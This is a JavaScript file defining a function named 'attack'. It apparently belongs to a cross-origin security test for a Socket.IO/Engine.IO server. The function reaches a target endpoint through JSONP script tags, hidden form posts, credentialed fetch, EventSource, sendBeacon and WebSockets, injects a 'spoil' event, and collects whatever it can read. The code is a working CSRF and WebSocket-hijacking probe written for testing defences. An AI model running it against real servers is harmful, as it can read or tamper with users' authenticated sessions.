/** Does everything that a page can do with an address of another origin. Returns whatever it could read. */
window.attack = function attack({ target, sid }) {
  const read = [];
  const base = `${target}/socket.io/?EIO=4&transport=polling&by=attacker`;
  const addresses = [base, `${base}&sid=${sid}`, base.replace('EIO=4', 'EIO=3')];
  const websockets = addresses.map((url) => url.replace('http', 'ws').replace('=polling', '=websocket'));
  const body = '42["spoil"]';

  const include = (tag, attributes) =>
    new Promise((resolve) => {
      const element = document.createElement(tag);
      element.addEventListener('load', () => resolve());
      element.addEventListener('error', () => resolve());
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      document.body.append(element);
    });
  const ask = (url, options) =>
    fetch(url, { credentials: 'include', ...options })
      .then((response) => response.text())
      .then((text) => void read.push(text))
      .catch(() => undefined);
  const post = (url, form, enctype) =>
    new Promise((resolve) => {
      const frame = document.createElement('iframe');
      frame.name = `frame-${Math.random()}`;
      const element = document.createElement('form');
      Object.assign(element, { action: url, method: 'post', enctype, target: frame.name });
      for (const [name, value] of Object.entries(form)) {
        const input = document.createElement('input');
        Object.assign(input, { type: 'hidden', name, value });
        element.append(input);
      }
      document.body.append(frame, element);
      frame.addEventListener('load', () => resolve());
      element.submit();
    });
  const connect = (url) =>
    new Promise((resolve) => {
      const socket = new WebSocket(url);
      socket.addEventListener('message', ({ data }) => {
        read.push(String(data));
        socket.send('40');
        socket.send(body);
      });
      socket.addEventListener('open', () => socket.send('2probe'));
      socket.addEventListener('close', () => resolve());
    });
  const listen = (url) =>
    new Promise((resolve) => {
      const source = new EventSource(url, { withCredentials: true });
      source.addEventListener('message', ({ data }) => read.push(String(data)));
      source.addEventListener('error', () => {
        source.close();
        resolve();
      });
    });

  // By JSONP, Engine.IO hands what it answers to these.
  window.___eio = [(data) => read.push(String(data))];
  const steps = addresses.flatMap((url) => [
    () => include('script', { src: `${url}&j=0` }),
    () => include('script', { src: url }),
    () => include('script', { src: url, crossorigin: 'use-credentials' }),
    () => post(`${url}&j=0`, { d: body }, 'application/x-www-form-urlencoded'),
    () => post(url, { '42["spoil","': '"]' }, 'text/plain'),
    () => ask(url, { mode: 'cors' }),
    () => ask(url, { mode: 'no-cors' }),
    () => ask(url, { mode: 'no-cors', referrerPolicy: 'no-referrer' }),
    () => ask(url, { method: 'POST', mode: 'cors', body }),
    () => ask(url, { method: 'POST', mode: 'no-cors', body }),
    () => ask(url, { method: 'POST', mode: 'no-cors', body, keepalive: true, referrerPolicy: 'no-referrer' }),
    () => listen(url),
    () => include('img', { src: url, referrerpolicy: 'no-referrer' }),
    () => include('img', { src: url }),
    () => include('iframe', { src: url }),
    () => include('link', { rel: 'stylesheet', href: url }),
    () => include('object', { data: url }),
    async () => void navigator.sendBeacon(url, body),
  ]);
  return [...steps, ...websockets.map((url) => () => connect(url))]
    .reduce((before, step) => before.then(step), Promise.resolve())
    .then(() => read);
};
